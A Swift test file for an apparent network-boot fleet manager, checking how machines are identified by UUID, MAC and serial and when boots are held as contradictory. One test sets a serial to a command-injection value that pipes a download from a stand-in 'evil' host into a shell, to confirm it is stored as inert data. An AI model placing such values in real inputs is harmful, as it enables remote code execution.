// BootTests: the small inputs that installed over a machine in use, and their whole kind.
// SPDX-License-Identifier: Apache-2.0

import Testing
import Text

@testable import Boot

@Suite("A machine in use")
struct FaultRowTests {
  static let u1 = MachineID(Fleet.uuid(1))
  static let u2 = MachineID(Fleet.uuid(2))
  static let m1 = MachineID(Fleet.mac(1))
  static let m2 = MachineID(Fleet.mac(2))
  static let running = #"{"profile":"core","state":"running"}"#

  static func installed(_ words: String) throws -> Fleet {
    var fleet = Fleet()
    try fleet.install(words)
    #expect(fleet.roster.all.map(\.machine.state) == [.running])
    return fleet
  }

  /// Row 1.
  @Test func `that was taken over by its card stays its own, whatever a stranger says`() throws {
    var fleet = Fleet()
    try fleet.say("52:54:00:00:00:01", Self.running)
    #expect(fleet.boot("u9 m1") == .disk)
    #expect(fleet.boot("u1 m1") == .disk)
    #expect(fleet.machine(Self.m1)?.uuid == nil)
    #expect(fleet.machine(Self.m1)?.told.map(\.uuid) == [Fleet.uuid(9), Fleet.uuid(1)])
    // And what it told holds it when it comes by another card.
    #expect(fleet.boot("u1 m2") == .held(.contradiction))
    #expect(fleet.boot("u1 m1") == .disk)
  }

  /// Rows 2, 3, 4 and 9b: what was installed, and what boots then.
  @Test(arguments: [
    ("u1 m1 s1", "u2 m2 s1"), ("u1 m1 s1", "m2 s1"), ("m1 s1", "u1 m2 s1"), ("u1 m1", "u2 m1"),
    ("u1 m1", "u2 m1 s2"), ("u1 m1 s1", "u2 m1"), ("u1 m1 s1", "u2 m1 s1"), ("u1 m1 s1", "u2 s1"),
  ])
  func `is not installed over by who shares a name with it`(first: String, second: String) throws {
    var fleet = try Self.installed(first)
    for _ in 0..<3 { #expect(fleet.boot(second) == .held(.contradiction)) }
    let new = try #require(fleet.roster.all.first { $0.machine.profile == nil }?.machine)
    #expect(fleet.roster.count == 2 && new.state == .unknown)
    #expect(fleet.log.contains("machines doubts --same \(new.id)"))
    #expect(fleet.log.contains("machines claim \(new.id) --profile NAME"))
    #expect(fleet.boot(first) == .disk)
    // Its own disk, where that is what is wanted meanwhile.
    fleet.policy = .local
    #expect(fleet.boot(second) == .disk)
  }

  /// Only serials that differ say by themselves that two boards are two.
  @Test(arguments: [("u1 m1 s1", "u2 m1 s2"), ("m1 s1", "u2 m1 s2"), ("u1 m1 s1", "u2 m2 s2")])
  func `lets a card move between boards whose serials differ`(
    first: String, second: String
  ) throws {
    var fleet = try Self.installed(first)
    #expect(fleet.boot(second) == .installer(Self.u2))
  }

  /// Row 5, and the same before the first board is installed: row 9d.
  @Test func `is not confused with another board that says its UUID`() throws {
    var fleet = Fleet()
    #expect(fleet.boot("u1 m1 s1") == .installer(Self.u1))
    #expect(fleet.boot("u1 m2 s2") == .held(.contradiction))
    #expect(fleet.boot("u1 m1 s1") == .installer(Self.u1))
    try fleet.report(Self.u1, .installed)
    #expect(fleet.boot("u1 m2 s2") == .held(.contradiction))
    #expect(fleet.boot("u1 m1 s1") == .disk)
    try fleet.say("\(Self.u1)", #"{"state":"configured"}"#)
    #expect(fleet.boot("u1 m2 s2") == .held(.contradiction))
    #expect(fleet.boot("u1 m1 s1") == .installer(Self.u1))
    #expect(fleet.machine(Self.u1)?.macs == [Fleet.mac(1)])
    // A person may name the second board by its card.
    try fleet.say("52:54:00:00:00:02", #"{"profile":"core"}"#)
    #expect(fleet.boot("u1 m2 s2") == .installer(Self.m2))
    #expect(fleet.boot("u1 m1 s1") == .installer(Self.u1))
  }

  /// Row 6: named by its MAC, with a UUID and a second card that it showed later.
  @Test(arguments: [true, false])
  func `keeps its names and its slot when its record is damaged`(remembers: Bool) throws {
    var fleet = Fleet([("core", #"{"install":{},"quantity":1}"#)])
    #expect(fleet.boot("m1 s1") == .installer(Self.m1))
    #expect(fleet.boot("u1 m1 s1") == .installer(Self.m1))
    #expect(fleet.boot("u1 m2 s1") == .installer(Self.m1))
    try fleet.report(Self.m1, .installed)
    fleet.damage(Self.m1, remembers: remembers)
    for words in ["u1 m2", "u1 m9", "m2", "u2 m2", "u3 m3 s1", "m1"] {
      #expect(fleet.boot(words) == .held(.record), "\(words)")
    }
    #expect(fleet.roster.count(profile: "core") == 1)
    #expect(fleet.boot("u7 m7") == .held(.unmatched))
    #expect(throws: MachineError.unreadable(file: "machines/\(Self.m1).json", reason: "r")) {
      try fleet.roster.resolve(Fleet.serial(1))
    }
  }

  @Test func `keeps what the store knows of it when its record is gone`() throws {
    var fleet = Fleet()
    var damage = Roster.Damage(
      .unreadable(file: "f", reason: "it is gone"), id: Self.u1, bytes: [])
    damage.remember(
      uuid: Fleet.uuid(1), macs: [Fleet.mac(1)], serial: Fleet.serial(1), profile: "core")
    fleet.roster.putDamaged(Self.u1, damage)
    #expect(fleet.boot("u2 m1") == .held(.record) && fleet.boot("m5 s1") == .held(.record))
    #expect(fleet.roster.count(profile: "core") == 1)
    #expect(fleet.boot("u2 m1 s2") == .installer(Self.u2))
  }

  /// Row 9a.
  @Test func `that was taken over by one card is safe by that card`() throws {
    var fleet = Fleet()
    try fleet.say("52:54:00:00:00:01", Self.running)
    // Another card, which `core` does not take: nobody can know that it is the same board.
    #expect(fleet.boot("u1 x2") == .held(.unmatched))
    #expect(fleet.boot("u1 m1") == .disk)
    // Now it is known.
    #expect(fleet.boot("u1 x2") == .held(.contradiction))
    #expect(fleet.boot("u1 m1") == .disk)
  }

  /// The same, where a profile takes the other card: until the board has booted by its first one.
  @Test func `that was taken over is not installed by another card once both were seen`() throws {
    var fleet = Fleet()
    try fleet.say("52:54:00:00:00:01", Self.running)
    #expect(fleet.boot("u1 m2") == .installer(Self.u1))
    #expect(fleet.boot("u1 m1") == .held(.contradiction))
    #expect(fleet.boot("u1 m2") == .held(.contradiction))
    try fleet.say("\(Self.u1)", #"{"profile":"core"}"#, makes: false)
    #expect(fleet.boot("u1 m2") == .installer(Self.u1))
  }

  /// Row 9b with a filler that only many machines show to be one.
  @Test func `has no serial to tell it by where three machines have it`() throws {
    var fleet = Fleet()
    for number in 1...3 { #expect(fleet.boot("u\(number) m\(number) f") != .disk) }
    for number in 1...3 { try fleet.report(MachineID(Fleet.uuid(number)), .installed) }
    // The filler parts nobody: the board of machine 1 has a new mainboard.
    #expect(fleet.boot("u8 m1 s8") == .held(.contradiction))
    // And makes nobody suspicious.
    #expect(fleet.boot("u9 m9 f") == .installer(MachineID(Fleet.uuid(9))))
  }

  /// Row 14.
  @Test func `takes eight tales and no more`() throws {
    var fleet = try Self.installed("u1 m1")
    for number in 10..<200 { #expect(fleet.boot("u1 m1 s\(number)") == .disk) }
    #expect(fleet.machine(Self.u1)?.told.count == 8)
    let batch = fleet.batch
    for number in 200..<300 { #expect(fleet.boot("u1 m1 s\(number)") == .disk) }
    #expect(fleet.batch == batch)
    // A tale that says more takes the place of one that says less, a few times.
    for number in 1..<50 { #expect(fleet.boot("u1 m\(number) s\(number)") == .disk) }
    #expect(fleet.batch <= batch + 8 && fleet.machine(Self.u1)?.told.count == 8)
  }

  /// Row 15.
  @Test func `keeps the serial that it has`() throws {
    var fleet = Fleet()
    var boot = Fleet.identity("u1 m9")
    boot.serial = "x;curl evil|sh"
    #expect(fleet.boot("u1 m1 s1") == .installer(Self.u1))
    #expect(fleet.boot(boot) == .held(.contradiction))
    #expect(fleet.console.contains("the server's log says how to decide"))
    boot.mac = Fleet.mac(1)
    #expect(fleet.boot(boot) == .installer(Self.u1))
    try fleet.report(Self.u1, .installed)
    #expect(fleet.boot(boot) == .disk)
    let machine = try #require(fleet.machine(Self.u1))
    #expect(machine.serial == Fleet.serial(1) && machine.macs == [Fleet.mac(1)])
    #expect(machine.told.map(\.serial) == ["x;curl evil|sh"])
    #expect(throws: MachineError.unknownMachine("x;curl evil|sh")) {
      try fleet.roster.resolve("x;curl evil|sh")
    }
  }
}
